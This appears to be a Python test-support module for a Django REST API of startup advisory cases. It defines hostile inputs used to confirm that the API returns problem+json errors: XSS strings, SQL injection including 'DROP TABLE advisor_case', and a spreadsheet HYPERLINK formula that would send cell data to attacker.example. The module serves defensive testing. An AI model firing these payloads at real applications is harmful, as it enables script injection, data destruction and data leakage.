"""What the hostile-input tests share: the payloads, a partner with a budget they cannot spend,
and how a refusal must look."""

from __future__ import annotations

from rest_framework.test import APIClient

CASES = "/api/v1/cases/"
BULK = "/api/v1/cases/bulk/"
PROBLEM = "application/problem+json"

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
SQL = "Robert'); DROP TABLE advisor_case;--"
SQL_OR = "' OR '1'='1"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
PAYLOADS = (SCRIPT, IMAGE, SQL, SQL_OR, FORMULA)


def assert_problem(response, status: int = 400) -> dict:
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"] == PROBLEM
    body = response.json()
    assert body["status"] == status
    return body


def post_json(client: APIClient, path: str, raw: bytes | str, **headers):
    return client.generic("POST", path, raw, content_type="application/json", **headers)


def founder_form(**changes) -> dict[str, str]:
    data = {
        "startup_name": "Acme Robotics",
        "sector": "robotics",
        "stage": "seed",
        "customer_type": "manufacturers",
        "market_CN": "80",
        "market_US": "20",
    }
    data.update(changes)
    return data
